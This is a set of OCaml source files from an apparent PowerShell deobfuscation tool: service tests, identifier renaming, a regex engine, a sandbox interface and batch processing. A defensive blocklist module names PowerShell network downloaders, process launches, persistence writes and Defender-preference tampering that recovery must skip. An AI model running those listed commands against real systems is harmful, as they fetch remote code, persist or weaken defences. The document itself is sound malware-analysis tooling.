          (List.mem s [ "ok"; "degraded"; "overloaded"; "error" ])
      done)

let test_chaos_queue_fault_is_one_error () =
  (* a queue fault costs exactly the request it hit: rate 1.0 on
     serve.queue turns every deobfuscate request into a structured error,
     while control ops (never queued) still work *)
  with_chaos
    { Chaos.seed = 3; rate = 0.0; site_rates = [ ("serve.queue", 1.0) ] }
  @@ fun () ->
  with_server "qfault"
    (fun bind -> { (Serve.default_config bind) with Serve.jobs = 1 })
    (fun sock _server ->
      let fd = connect sock in
      Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
      send_all fd (request ~id:"q" ~script:piece_script ());
      send_all fd (request ~id:"h" ~op:"health" ());
      let lines = read_lines fd 2 in
      check_s "queue fault is a structured error" "error"
        (status_of (response_for lines "q"));
      check_s "fault kind reported" "queue-fault"
        (Option.value ~default:"?"
           (Jsonl.string_field (response_for lines "q") "kind"));
      check_s "daemon unaffected" "ok"
        (status_of (response_for lines "h")))

(* ---------- graceful drain ---------- *)

let test_drain_finishes_inflight () =
  with_temp_dir "drain" @@ fun dir ->
  let sock = Filename.concat dir "d.sock" in
  let cfg =
    { (Serve.default_config (Serve.Unix_sock sock)) with Serve.jobs = 1 }
  in
  match Serve.start cfg with
  | Error e -> Alcotest.failf "start: %s" e
  | Ok server ->
      let fd = connect sock in
      Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
      (* a slow request keeps the single worker busy, and the trailing
         health op proves admission: request lines on one connection are
         processed in order, so once "hb" is answered, "w" was queued *)
      send_all fd (request ~id:"w" ~script:bomb_script ~timeout_s:0.5 ());
      send_all fd (request ~id:"hb" ~op:"health" ());
      let lines = read_lines fd 1 in
      check_s "work request admitted" "ok"
        (status_of (response_for lines "hb"));
      Serve.stop server;
      let code = Serve.wait server in
      check_i "drain exits 0" 0 code;
      let lines = lines @ read_lines ~deadline_s:5.0 fd 1 in
      (* the bomb was in flight at stop: drain waited out its deadline and
         still answered it (contained as degraded) before exiting *)
      check_s "in-flight request answered during drain" "degraded"
        (status_of (response_for lines "w"))

let test_shutdown_op () =
  with_temp_dir "shut" @@ fun dir ->
  let sock = Filename.concat dir "d.sock" in
  let metrics_out = Filename.concat dir "final-metrics.json" in
  let cfg =
    { (Serve.default_config (Serve.Unix_sock sock)) with
      Serve.jobs = 1;
      metrics_out = Some metrics_out }
  in
  match Serve.start cfg with
  | Error e -> Alcotest.failf "start: %s" e
  | Ok server ->
      let fd = connect sock in
      Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
      send_all fd (request ~id:"r" ~script:piece_script ());
      send_all fd (request ~id:"bye" ~op:"shutdown" ());
      let lines = read_lines fd 2 in
      check_s "shutdown acknowledged" "ok"
        (status_of (response_for lines "bye"));
      check_s "queued work answered before exit" "ok"
        (status_of (response_for lines "r"));
      check_i "shutdown op drains to exit 0" 0 (Serve.wait server);
      (* telemetry flushed on drain *)
      check_b "metrics snapshot written" true (Sys.file_exists metrics_out);
      let snap =
        In_channel.with_open_bin metrics_out In_channel.input_all
      in
      check_b "snapshot counts the requests" true
        (match Jsonl.int_field snap "serve.requests" with
        | Some n -> n >= 1
        | None -> false)

(* ---------- warm piece cache ---------- *)

let test_warm_cache_identical_output () =
  with_server "warm"
    (fun bind -> { (Serve.default_config bind) with Serve.jobs = 1 })
    (fun sock _server ->
      let fd = connect sock in
      Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
      send_all fd (request ~id:"cold" ~script:piece_script ());
      send_all fd (request ~id:"hot" ~script:piece_script ());
      let lines = read_lines fd 2 in
      let cold = response_for lines "cold"
      and hot = response_for lines "hot" in
      let out l =
        match Jsonl.string_field l "output" with
        | Some o -> o
        | None -> Alcotest.fail "missing output"
      in
      check_s "warm output byte-identical to cold" (out cold) (out hot);
      (* the second request was answered from the worker's warm cache *)
      check_b "second request hit the piece cache" true
        (match Jsonl.int_field hot "cache_hits" with
        | Some n -> n >= 1
        | None -> false);
      (* and both match a direct cold engine run — the daemon path changes
         transport, not results *)
      let direct =
        (Deobf.Engine.run_guarded ~timeout_s:30.0 piece_script)
          .Deobf.Engine.result
          .Deobf.Engine.output
      in
      check_s "daemon output equals direct engine output" direct (out cold))

let suite =
  [
    Alcotest.test_case "roundtrip" `Quick test_roundtrip;
    Alcotest.test_case "health and metrics ops" `Quick test_health_and_metrics;
    Alcotest.test_case "malformed and unknown requests" `Quick
      test_malformed_and_unknown;
    Alcotest.test_case "overload sheds with retry hint" `Quick
      test_overload_shed;
    Alcotest.test_case "per-request deadline isolation" `Quick
      test_deadline_isolation;
    Alcotest.test_case "chaos flood: every request answered" `Quick
      test_chaos_flood;
    Alcotest.test_case "chaos queue fault costs one request" `Quick
      test_chaos_queue_fault_is_one_error;
    Alcotest.test_case "drain finishes in-flight work" `Quick
      test_drain_finishes_inflight;
    Alcotest.test_case "shutdown op flushes telemetry" `Quick
      test_shutdown_op;
    Alcotest.test_case "warm cache: byte-identical output" `Quick
      test_warm_cache_identical_output;
  ]
