test/test_pslex.ml: Alcotest List Pscommon Pslex QCheck QCheck_alcotest
