(** Renaming and reformatting (paper §III-C).

    Randomised identifiers are detected statistically over the concatenation
    of all unique names: English text keeps its vowel proportion near 37.4%
    (Hayden 1950), so a set of names whose vowel share falls outside
    [32%, 42%] — or made of less than 10% letters — is considered random and
    renamed to [var{n}] / [func{n}] in order of first appearance. *)

open Pscommon
module T = Pslex.Token

let is_vowel c =
  match Char.lowercase_ascii c with
  | 'a' | 'e' | 'i' | 'o' | 'u' -> true
  | _ -> false

let is_letter c =
  match c with 'a' .. 'z' | 'A' .. 'Z' -> true | _ -> false

(** Statistical randomness test on a set of identifier names. *)
let names_look_random names =
  let joined = String.concat "" names in
  (* the proportion statistic needs a minimal sample; a lone short
     identifier like "name" is not evidence of randomisation *)
  if String.length joined < 6 then false
  else begin
    let letters = ref 0 and vowels = ref 0 in
    String.iter
      (fun c ->
        if is_letter c then begin
          incr letters;
          if is_vowel c then incr vowels
        end)
      joined;
    let letter_ratio = float_of_int !letters /. float_of_int (String.length joined) in
    if letter_ratio < 0.10 then true
    else if !letters = 0 then true
    else begin
      let vowel_ratio = float_of_int !vowels /. float_of_int !letters in
      vowel_ratio < 0.32 || vowel_ratio > 0.42
    end
  end

let renameable_variable name =
  (not (Tracer.is_automatic name)) && not (String.contains name ':')

(* unique names in order of first appearance *)
let collect_names toks =
  let seen = Hashtbl.create 16 in
  let vars = ref [] in
  let funcs = ref [] in
  let rec walk = function
    | [] -> ()
    | t :: rest ->
        (match t.T.kind with
        | T.Variable when renameable_variable t.T.content ->
            let key = Strcase.lower t.T.content in
            if not (Hashtbl.mem seen key) then begin
              Hashtbl.replace seen key ();
              vars := t.T.content :: !vars
            end
        | T.Keyword when Strcase.equal t.T.content "function" -> (
            match rest with
            | n :: _ when n.T.kind = T.Command || n.T.kind = T.Command_argument ->
                let key = Strcase.lower n.T.content in
                if not (Hashtbl.mem seen ("f:" ^ key)) then begin
                  Hashtbl.replace seen ("f:" ^ key) ();
                  funcs := n.T.content :: !funcs
                end
            | _ -> ())
        | _ -> ());
        walk rest
  in
  walk toks;
  (List.rev !vars, List.rev !funcs)

(** Rename random identifiers to [var{n}] / [func{n}].  Replacement is
    token-based and also rewrites interpolations inside double-quoted
    strings; the result is syntax-checked. *)
let rename src =
  match Pslex.Lexer.tokenize src with
  | Error _ -> src
  | Ok toks -> (
      let vars, funcs = collect_names toks in
      if not (names_look_random (vars @ funcs)) then src
      else begin
        let var_map = Hashtbl.create 16 in
        List.iteri
          (fun i name ->
            Hashtbl.replace var_map (Strcase.lower name) (Printf.sprintf "var%d" i))
          vars;
        let func_map = Hashtbl.create 4 in
        List.iteri
          (fun i name ->
            Hashtbl.replace func_map (Strcase.lower name) (Printf.sprintf "func%d" i))
          funcs;
        let edits =
          List.filter_map
            (fun t ->
              match t.T.kind with
              | T.Variable -> (
                  match Hashtbl.find_opt var_map (Strcase.lower t.T.content) with
                  | Some fresh -> Some (Patch.edit t.T.extent ("$" ^ fresh))
                  | None -> None)
              | T.Command | T.Command_argument -> (
                  match Hashtbl.find_opt func_map (Strcase.lower t.T.content) with
                  | Some fresh -> Some (Patch.edit t.T.extent fresh)
                  | None -> None)
              | T.String_double ->
                  let is_ident c =
                    match c with
                    | 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | '_' -> true
                    | _ -> false
                  in
                  let text = ref t.T.text in
                  Hashtbl.iter
                    (fun old fresh ->
                      text :=
                        Strcase.replace_word ~needle:("$" ^ old)
                          ~replacement:("$" ^ fresh) ~is_word_char:is_ident !text)
                    var_map;
                  if !text = t.T.text then None else Some (Patch.edit t.T.extent !text)
              | _ -> None)
            toks
        in
        if edits = [] then src
        else
          match Patch.apply src edits with
          | patched when Psparse.Parser.is_valid_syntax patched -> patched
          | _ -> src
          | exception Invalid_argument _ -> src
      end)

(** Reformat: collapse every horizontal whitespace gap to one space, drop
    line continuations and blank-line runs, and indent by brace depth.
    Token adjacency (member access, method parens) is preserved because only
    {e existing} gaps are rewritten. *)
let reformat src =
  match Pslex.Lexer.tokenize src with
  | Error _ -> src
  | Ok toks -> (
      let buf = Buffer.create (String.length src) in
      let depth = ref 0 in
      let paren_depth = ref 0 in
      let group_stack = ref [] in
      let at_line_start = ref true in
      let pending_newlines = ref 0 in
      let emit_indent () =
        if !at_line_start then begin
          Buffer.add_string buf (String.make (2 * max 0 !depth) ' ');
          at_line_start := false
        end
      in
      let newline () =
        if not !at_line_start then pending_newlines := 1
      in
      let flush_newlines () =
        if !pending_newlines > 0 then begin
          Buffer.add_char buf '\n';
          pending_newlines := 0;
          at_line_start := true
        end
      in
      let prev_stop = ref 0 in
      List.iter
        (fun t ->
          match t.T.kind with
          | T.Statement_separator when !paren_depth > 0 ->
              (* ';' inside for(...) headers must stay *)
              flush_newlines ();
              Buffer.add_string buf "; ";
              prev_stop := t.T.extent.Extent.stop
          | T.New_line when !paren_depth > 0 ->
              prev_stop := t.T.extent.Extent.stop
          | T.New_line | T.Statement_separator ->
              newline ();
              prev_stop := t.T.extent.Extent.stop
          | T.Line_continuation ->
              prev_stop := t.T.extent.Extent.stop
          | T.Comment ->
              (* comments carry analyst-relevant context; keep them on their
                 own terms and force a break after line comments *)
              flush_newlines ();
              if (not !at_line_start) then Buffer.add_char buf ' ';
              emit_indent ();
              Buffer.add_string buf t.T.text;
              if not (Pscommon.Strcase.starts_with ~prefix:"<#" t.T.text) then
                newline ();
              prev_stop := t.T.extent.Extent.stop
          | _ ->
              flush_newlines ();
              (match t.T.kind with
              | T.Group_end when t.T.content = "}" -> (
                  match !group_stack with
                  | `Brace :: rest ->
                      decr depth;
                      group_stack := rest
                  | _ :: rest -> group_stack := rest
                  | [] -> ())
              | T.Group_end when t.T.content = ")" -> (
                  decr paren_depth;
                  match !group_stack with _ :: rest -> group_stack := rest | [] -> ())
              | _ -> ());
              let had_gap = t.T.extent.Extent.start > !prev_stop in
              if (not !at_line_start) && had_gap then Buffer.add_char buf ' ';
              emit_indent ();
              Buffer.add_string buf t.T.text;
              (match t.T.kind with
              | T.Group_start when t.T.content = "{" ->
                  incr depth;
                  group_stack := `Brace :: !group_stack
              | T.Group_start when t.T.content = "@{" ->
                  group_stack := `Hash :: !group_stack
              | T.Group_start ->
                  incr paren_depth;
                  group_stack := `Paren :: !group_stack
              | _ -> ());
              prev_stop := t.T.extent.Extent.stop)
        toks;
      if not !at_line_start then Buffer.add_char buf '\n';
      let out = Buffer.contents buf in
      if Psparse.Parser.is_valid_syntax out then out else src)
