(** Behaviour sandbox (the TianQiong substitute, paper §IV-C3): runs a
    script with side effects recorded as events, and compares network
    behaviour between scripts. *)

type report = {
  events : Pseval.Env.event list;
  commands : string list;
      (** unresolved commands with stringified args, invocation order *)
  output : Psvalue.Value.t list;
  host_output : Psvalue.Value.t list;  (** what Write-Host printed *)
  bindings : (string * Psvalue.Value.t) list;
      (** final global-scope bindings the script established, by name *)
  error : string option;  (** execution error, if any; events are kept *)
  failure : Pscommon.Guard.failure option;
      (** set when the run was contained by the guard (stack overflow,
          deadline, stray exception) rather than finishing *)
}

val run : ?max_steps:int -> ?timeout_s:float -> string -> report
(** Never raises: execution is guarded, and a contained crash or overrun
    keeps the events recorded up to that point. *)

val effect_log : report -> string list
(** Deterministic canonical effect log for semantic comparison:
    [cmd:] unresolved command invocations (in order), [event:] side-effect
    events (in order, minus the interpreter-invocation event that layer
    unwrapping legitimately removes), [out:] pipeline output, [host:]
    Write-Host output, [var:] final global binding {e values} as a sorted
    multiset (rename-insensitive), and a trailing [error] marker when
    evaluation errored.  Script-block values canonicalise to
    ["<scriptblock>"] so renames inside emitted blocks don't register. *)

val run_for_verify : ?max_steps:int -> ?timeout_s:float -> string -> (string list, string) result
(** Run under a tight budget and return the {!effect_log}, or [Error
    reason] when the run was contained (deadline, step budget, crash) —
    the script is then unverifiable rather than comparable.  Defaults:
    400k steps, 5s. *)

val is_network_event : Pseval.Env.event -> bool

val network_signature : report -> string list
(** The sorted, deduplicated set of network events — the unit of comparison
    for behavioural consistency. *)

val has_network_behavior : report -> bool

val same_network_behavior : report -> report -> bool

val effective : original:string -> deobfuscated:string -> bool
(** The paper's effectiveness rule: the tool changed the script {e and}
    network behaviour is preserved (§IV-C3 does not count results equal to
    the input). *)
