exception Parse_error of string

type cls_item = Range of char * char | Single of char

type node =
  | Empty
  | Char of char
  | Any
  | Class of bool * cls_item list  (* negated?, items *)
  | Seq of node list
  | Alt of node list
  | Repeat of node * int * int option * bool  (* node, min, max, greedy *)
  | Group of int * node  (* capture index *)
  | NonCap of node
  | Bol
  | Eol
  | WordBoundary
  | NotWordBoundary
  | Backref of int

type t = { node : node; group_count : int; case_insensitive : bool }

(* ---------- parser ---------- *)

type parser_state = {
  pat : string;
  mutable pos : int;
  mutable groups : int;
}

let peek st = if st.pos < String.length st.pat then Some st.pat.[st.pos] else None

let advance st = st.pos <- st.pos + 1

let eat st c =
  match peek st with
  | Some x when x = c -> advance st
  | _ -> raise (Parse_error (Printf.sprintf "expected %C at %d" c st.pos))

let digit_escape_class = function
  | 'd' -> Some (false, [ Range ('0', '9') ])
  | 'D' -> Some (true, [ Range ('0', '9') ])
  | 'w' ->
      Some (false, [ Range ('a', 'z'); Range ('A', 'Z'); Range ('0', '9'); Single '_' ])
  | 'W' ->
      Some (true, [ Range ('a', 'z'); Range ('A', 'Z'); Range ('0', '9'); Single '_' ])
  | 's' -> Some (false, [ Single ' '; Single '\t'; Single '\n'; Single '\r'; Single '\012' ])
  | 'S' -> Some (true, [ Single ' '; Single '\t'; Single '\n'; Single '\r'; Single '\012' ])
  | _ -> None

let control_escape = function
  | 'n' -> Some '\n'
  | 'r' -> Some '\r'
  | 't' -> Some '\t'
  | 'f' -> Some '\012'
  | 'v' -> Some '\011'
  | '0' -> Some '\000'
  | 'a' -> Some '\007'
  | 'e' -> Some '\027'
  | _ -> None

let hex_value c =
  match c with
  | '0' .. '9' -> Char.code c - Char.code '0'
  | 'a' .. 'f' -> Char.code c - Char.code 'a' + 10
  | 'A' .. 'F' -> Char.code c - Char.code 'A' + 10
  | _ -> raise (Parse_error "invalid hex digit in \\x escape")

let parse_escape st =
  match peek st with
  | None -> raise (Parse_error "trailing backslash")
  | Some c -> (
      advance st;
      match c with
      | 'b' -> `Node WordBoundary
      | 'B' -> `Node NotWordBoundary
      | '1' .. '9' -> `Node (Backref (Char.code c - Char.code '0'))
      | 'x' ->
          let h1 = match peek st with Some c -> advance st; c | None -> raise (Parse_error "truncated \\x") in
          let h2 = match peek st with Some c -> advance st; c | None -> raise (Parse_error "truncated \\x") in
          `Char (Char.chr ((hex_value h1 * 16) + hex_value h2))
      | c -> (
          match digit_escape_class c with
          | Some (neg, items) -> `Node (Class (neg, items))
          | None -> (
              match control_escape c with
              | Some ch -> `Char ch
              | None -> `Char c)))

let parse_class st =
  (* '[' already consumed *)
  let negated =
    match peek st with
    | Some '^' -> advance st; true
    | _ -> false
  in
  let items = ref [] in
  let add i = items := i :: !items in
  let rec loop first =
    match peek st with
    | None -> raise (Parse_error "unterminated character class")
    | Some ']' when not first -> advance st
    | Some c ->
        advance st;
        let c =
          if c = '\\' then
            match parse_escape st with
            | `Char ch -> `Lit ch
            | `Node (Class (neg, sub)) ->
                if neg then raise (Parse_error "negated escape inside class unsupported");
                List.iter add sub;
                `Class
            | `Node _ -> raise (Parse_error "invalid escape inside class")
          else `Lit c
        in
        (match c with
        | `Class -> ()
        | `Lit lo -> (
            match peek st with
            | Some '-' when st.pos + 1 < String.length st.pat && st.pat.[st.pos + 1] <> ']' ->
                advance st;
                let hi =
                  match peek st with
                  | Some '\\' ->
                      advance st;
                      (match parse_escape st with
                      | `Char ch -> ch
                      | `Node _ -> raise (Parse_error "invalid range bound"))
                  | Some ch -> advance st; ch
                  | None -> raise (Parse_error "unterminated character class")
                in
                if hi < lo then raise (Parse_error "inverted class range");
                add (Range (lo, hi))
            | _ -> add (Single lo)));
        loop false
  in
  loop true;
  Class (negated, List.rev !items)

let parse_int st =
  let start = st.pos in
  while (match peek st with Some ('0' .. '9') -> true | _ -> false) do
    advance st
  done;
  if st.pos = start then None
  else Some (int_of_string (String.sub st.pat start (st.pos - start)))

let rec parse_alt st =
  let first = parse_seq st in
  let rec loop acc =
    match peek st with
    | Some '|' ->
        advance st;
        loop (parse_seq st :: acc)
    | _ -> List.rev acc
  in
  match loop [ first ] with [ x ] -> x | xs -> Alt xs

and parse_seq st =
  let rec loop acc =
    match peek st with
    | None | Some '|' | Some ')' -> (
        match List.rev acc with [] -> Empty | [ x ] -> x | xs -> Seq xs)
    | Some _ ->
        let atom = parse_atom st in
        let atom = parse_quantifier st atom in
        loop (atom :: acc)
  in
  loop []

and parse_atom st =
  match peek st with
  | None -> raise (Parse_error "unexpected end of pattern")
  | Some '(' ->
      advance st;
      let node =
        if peek st = Some '?' then begin
          advance st;
          match peek st with
          | Some ':' ->
              advance st;
              NonCap (parse_alt st)
          | Some '=' | Some '!' | Some '<' ->
              raise (Parse_error "lookaround not supported")
          | _ -> raise (Parse_error "unsupported group modifier")
        end
        else begin
          st.groups <- st.groups + 1;
          let idx = st.groups in
          Group (idx, parse_alt st)
        end
      in
      eat st ')';
      node
  | Some '[' ->
      advance st;
      parse_class st
  | Some '.' ->
      advance st;
      Any
  | Some '^' ->
      advance st;
      Bol
  | Some '$' ->
      advance st;
      Eol
  | Some '\\' -> (
      advance st;
      match parse_escape st with `Char c -> Char c | `Node n -> n)
  | Some (('*' | '+' | '?') as c) ->
      raise (Parse_error (Printf.sprintf "dangling quantifier %C" c))
  | Some ')' -> raise (Parse_error "unbalanced ')'")
  | Some c ->
      advance st;
      Char c

and parse_quantifier st atom =
  let quantified min max =
    let greedy =
      match peek st with
      | Some '?' -> advance st; false
      | _ -> true
    in
    Repeat (atom, min, max, greedy)
  in
  match peek st with
  | Some '*' -> advance st; quantified 0 None
  | Some '+' -> advance st; quantified 1 None
  | Some '?' -> advance st; quantified 0 (Some 1)
  | Some '{' -> (
      (* Only treat as quantifier if it parses as {n}, {n,}, {n,m};
         otherwise .NET treats '{' as a literal. *)
      let saved = st.pos in
      advance st;
      match parse_int st with
      | None ->
          st.pos <- saved;
          atom
      | Some lo -> (
          match peek st with
          | Some '}' ->
              advance st;
              quantified lo (Some lo)
          | Some ',' -> (
              advance st;
              let hi = parse_int st in
              match peek st with
              | Some '}' ->
                  advance st;
                  (match hi with
                  | Some h when h < lo -> raise (Parse_error "inverted {n,m}")
                  | _ -> ());
                  quantified lo hi
              | _ ->
                  st.pos <- saved;
                  atom)
          | _ ->
              st.pos <- saved;
              atom))
  | _ -> atom

let compile ?(case_insensitive = true) pat =
  let st = { pat; pos = 0; groups = 0 } in
  let node = parse_alt st in
  if st.pos <> String.length pat then
    raise (Parse_error (Printf.sprintf "unexpected %C at %d" pat.[st.pos] st.pos));
  { node; group_count = st.groups; case_insensitive }

let compile_opt ?case_insensitive pat =
  match compile ?case_insensitive pat with
  | t -> Ok t
  | exception Parse_error msg -> Error msg

(* ---------- matcher ---------- *)

type group = { g_start : int; g_stop : int }

type match_result = { m_start : int; m_stop : int; groups : group array }

let is_word_char c =
  match c with 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | '_' -> true | _ -> false

let char_eq ci a b =
  if ci then Char.lowercase_ascii a = Char.lowercase_ascii b else a = b

let class_matches ci (negated, items) c =
  let test c =
    List.exists
      (fun item ->
        match item with
        | Single x -> x = c
        | Range (lo, hi) -> lo <= c && c <= hi)
      items
  in
  let hit = if ci then test (Char.lowercase_ascii c) || test (Char.uppercase_ascii c) else test c in
  hit <> negated

(* groups: (start, stop) array; -1 when unset.  Backtracking via CPS. *)
let exec t subject start_pos =
  let n = String.length subject in
  let ci = t.case_insensitive in
  let gstarts = Array.make (t.group_count + 1) (-1) in
  let gstops = Array.make (t.group_count + 1) (-1) in
  let steps = ref 0 in
  let budget = 2_000_000 in
  let rec match_node node pos (k : int -> bool) =
    incr steps;
    if !steps > budget then false
    else
      match node with
      | Empty -> k pos
      | Char c -> pos < n && char_eq ci c subject.[pos] && k (pos + 1)
      | Any -> pos < n && subject.[pos] <> '\n' && k (pos + 1)
      | Class (neg, items) ->
          pos < n && class_matches ci (neg, items) subject.[pos] && k (pos + 1)
      | Seq nodes ->
          let rec seq nodes pos k =
            match nodes with
            | [] -> k pos
            | x :: rest -> match_node x pos (fun pos' -> seq rest pos' k)
          in
          seq nodes pos k
      | Alt alts -> List.exists (fun a -> match_node a pos k) alts
      | NonCap inner -> match_node inner pos k
      | Group (idx, inner) ->
          let saved_start = gstarts.(idx) and saved_stop = gstops.(idx) in
          let entry = pos in
          let ok =
            match_node inner pos (fun pos' ->
                gstarts.(idx) <- entry;
                gstops.(idx) <- pos';
                k pos')
          in
          if not ok then begin
            gstarts.(idx) <- saved_start;
            gstops.(idx) <- saved_stop
          end;
          ok
      | Bol -> (pos = 0 || subject.[pos - 1] = '\n') && k pos
      | Eol -> (pos = n || subject.[pos] = '\n') && k pos
      | WordBoundary ->
          let before = pos > 0 && is_word_char subject.[pos - 1] in
          let after = pos < n && is_word_char subject.[pos] in
          before <> after && k pos
      | NotWordBoundary ->
          let before = pos > 0 && is_word_char subject.[pos - 1] in
          let after = pos < n && is_word_char subject.[pos] in
          before = after && k pos
      | Backref idx ->
          if idx > t.group_count then false
          else
            let gs = gstarts.(idx) and ge = gstops.(idx) in
            if gs < 0 then k pos (* unset backref matches empty, like .NET *)
            else
              let len = ge - gs in
              pos + len <= n
              &&
              let rec eq i = i = len || (char_eq ci subject.[gs + i] subject.[pos + i] && eq (i + 1)) in
              eq 0 && k (pos + len)
      | Repeat (inner, min_rep, max_rep, greedy) ->
          let max_rep = match max_rep with Some m -> m | None -> max_int in
          (* match exactly [count] then continue; greedy tries more first *)
          let rec go count pos =
            let can_more = count < max_rep in
            let try_more () =
              can_more
              && match_node inner pos (fun pos' ->
                     (* zero-width progress guard *)
                     if pos' = pos && count >= min_rep then false else go (count + 1) pos')
            in
            let try_stop () = count >= min_rep && k pos in
            if greedy then try_more () || try_stop ()
            else try_stop () || try_more ()
          in
          go 0 pos
  in
  let ok = match_node t.node start_pos (fun pos -> gstarts.(0) <- start_pos; gstops.(0) <- pos; true) in
  if ok then
    Some
      {
        m_start = gstarts.(0);
        m_stop = gstops.(0);
        groups =
          Array.init (t.group_count + 1) (fun i ->
              { g_start = gstarts.(i); g_stop = gstops.(i) });
      }
  else None

let find ?(start = 0) t subject =
  let n = String.length subject in
  let rec scan pos = if pos > n then None else match exec t subject pos with Some m -> Some m | None -> scan (pos + 1) in
  scan (max 0 start)

let find_all t subject =
  let n = String.length subject in
  let rec loop pos acc =
    if pos > n then List.rev acc
    else
      match find ~start:pos t subject with
      | None -> List.rev acc
      | Some m ->
          let next = if m.m_stop = m.m_start then m.m_stop + 1 else m.m_stop in
          loop next (m :: acc)
  in
  loop 0 []

let is_match t subject = find t subject <> None

let matched_text subject m = String.sub subject m.m_start (m.m_stop - m.m_start)

let group_text subject m i =
  if i < 0 || i >= Array.length m.groups then None
  else
    let g = m.groups.(i) in
    if g.g_start < 0 then None else Some (String.sub subject g.g_start (g.g_stop - g.g_start))

let expand_template subject m template =
  let buf = Buffer.create (String.length template) in
  let n = String.length template in
  let rec loop i =
    if i >= n then ()
    else if template.[i] = '$' && i + 1 < n then begin
      match template.[i + 1] with
      | '$' ->
          Buffer.add_char buf '$';
          loop (i + 2)
      | '&' ->
          Buffer.add_string buf (matched_text subject m);
          loop (i + 2)
      | '0' .. '9' as c ->
          let g = Char.code c - Char.code '0' in
          (match group_text subject m g with
          | Some s -> Buffer.add_string buf s
          | None -> ());
          loop (i + 2)
      | '{' -> (
          match String.index_from_opt template (i + 2) '}' with
          | Some close -> (
              let name = String.sub template (i + 2) (close - i - 2) in
              match int_of_string_opt name with
              | Some g ->
                  (match group_text subject m g with
                  | Some s -> Buffer.add_string buf s
                  | None -> ());
                  loop (close + 1)
              | None ->
                  Buffer.add_char buf '$';
                  loop (i + 1))
          | None ->
              Buffer.add_char buf '$';
              loop (i + 1))
      | _ ->
          Buffer.add_char buf '$';
          loop (i + 1)
    end
    else begin
      Buffer.add_char buf template.[i];
      loop (i + 1)
    end
  in
  loop 0;
  Buffer.contents buf

let replace_f t ~f subject =
  let buf = Buffer.create (String.length subject) in
  let matches = find_all t subject in
  let pos =
    List.fold_left
      (fun pos m ->
        Buffer.add_substring buf subject pos (m.m_start - pos);
        Buffer.add_string buf (f subject m);
        m.m_stop)
      0 matches
  in
  Buffer.add_substring buf subject pos (String.length subject - pos);
  Buffer.contents buf

let replace t ~template subject =
  replace_f t ~f:(fun subj m -> expand_template subj m template) subject

let split t subject =
  let matches = find_all t subject in
  let rec loop pos = function
    | [] -> [ String.sub subject pos (String.length subject - pos) ]
    | m :: rest -> String.sub subject pos (m.m_start - pos) :: loop m.m_stop rest
  in
  loop 0 matches

let quote s =
  let buf = Buffer.create (String.length s) in
  String.iter
    (fun c ->
      (match c with
      | '\\' | '^' | '$' | '.' | '|' | '?' | '*' | '+' | '(' | ')' | '[' | ']' | '{' | '}' ->
          Buffer.add_char buf '\\'
      | _ -> ());
      Buffer.add_char buf c)
    s;
  Buffer.contents buf
