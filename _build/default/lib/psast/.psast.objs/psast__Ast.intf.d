lib/psast/ast.mli: Extent Pscommon
