examples/obfuscation_roundtrip.ml: Deobf List Obfuscator Printf Pscommon Sandbox String
