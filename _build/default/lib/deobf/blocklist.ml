(** Commands that recovery must never execute (paper §III-B2).

    Recoverable pieces sometimes contain commands unrelated to the recovery
    process — network connections, sleeps, reboots.  Skipping pieces that
    mention them both keeps recovery safe and makes deobfuscation time
    stable (the paper credits the blocklist for Fig 6's flat runtimes). *)

open Pscommon

let commands =
  [
    (* network *)
    "invoke-webrequest"; "invoke-restmethod"; "iwr"; "irm"; "curl"; "wget";
    "start-bitstransfer"; "test-connection"; "test-netconnection";
    "downloadstring"; "downloadfile"; "downloaddata"; "openread";
    (* timing / machine state *)
    "start-sleep"; "sleep"; "restart-computer"; "stop-computer";
    "restart-service"; "suspend-computer";
    (* processes *)
    "start-process"; "saps"; "start"; "stop-process"; "kill"; "start-job";
    "invoke-item";
    (* persistence / filesystem writes *)
    "new-itemproperty"; "set-itemproperty"; "remove-item"; "remove-itemproperty";
    "set-content"; "add-content"; "out-file"; "new-service"; "set-service";
    "register-scheduledtask"; "new-scheduledtaskaction";
    (* anti-analysis *)
    "get-wmiobject"; "get-ciminstance"; "get-process"; "add-mppreference";
    "set-mppreference";
  ]

let set =
  List.fold_left (fun acc c -> Strcase.Set.add c acc) Strcase.Set.empty commands

let is_blocked name = Strcase.Set.mem name set

(** True when the piece mentions a blocked command or method, checked on
    tokens so string contents don't trigger it. *)
let mentions_blocked_command piece =
  match Pslex.Lexer.tokenize piece with
  | Error _ -> true (* un-lexable pieces are never executed *)
  | Ok toks ->
      List.exists
        (fun t ->
          match t.Pslex.Token.kind with
          | Pslex.Token.Command | Pslex.Token.Member ->
              is_blocked t.Pslex.Token.content
          | _ -> false)
        toks
