(** Crash-isolated batch processing — the shape of the paper's Table II
    corpus runs and of any future service: one hanging or crashing sample is
    contained by its own deadline and recorded in a per-file JSON failure
    report, and the batch continues.  With [jobs > 1] the files run in
    parallel on a fixed-size domain pool ({!Pscommon.Pool}); outcomes stay
    in input order and outputs are byte-identical to a sequential run. *)

type outcome = {
  file : string;  (** input path *)
  output_file : string option;  (** where the recovered text was written *)
  wall_ms : float;
  phase_ms : (string * float) list;
      (** per-phase wall milliseconds from {!Engine.run_guarded} *)
  iterations : int;
  changed : bool;
  failures : Engine.failure_site list;  (** empty when the file ran clean *)
  stats : Recover.stats;
}

type summary = {
  total : int;
  clean : int;  (** files with no contained failures *)
  degraded : int;  (** files that finished with contained failures *)
  wall_ms : float;
  outcomes : outcome list;  (** in processing order *)
}

val process_file :
  ?options:Engine.options ->
  ?timeout_s:float ->
  ?max_output_bytes:int ->
  ?out_dir:string ->
  ?trace_dir:string ->
  string ->
  outcome
(** Run one file through {!Engine.run_guarded} under its own deadline.
    Never raises: unreadable files and crashing samples come back as an
    outcome with failures.  With [out_dir], the recovered text is written
    to [out_dir/<basename>] and, when the file degraded, a failure report
    to [out_dir/<basename>.failures.json].  A failed output write is
    recorded as a ["write"] failure site.  With [trace_dir], the file runs
    under an ambient {!Pscommon.Telemetry} trace and the event stream is
    written to [trace_dir/<basename>.trace.jsonl] — one stream per input,
    even across pool domains. *)

val run_files :
  ?options:Engine.options ->
  ?timeout_s:float ->
  ?max_output_bytes:int ->
  ?out_dir:string ->
  ?trace_dir:string ->
  ?jobs:int ->
  string list ->
  summary
(** Process the given files, [jobs] at a time (default 1, sequential).
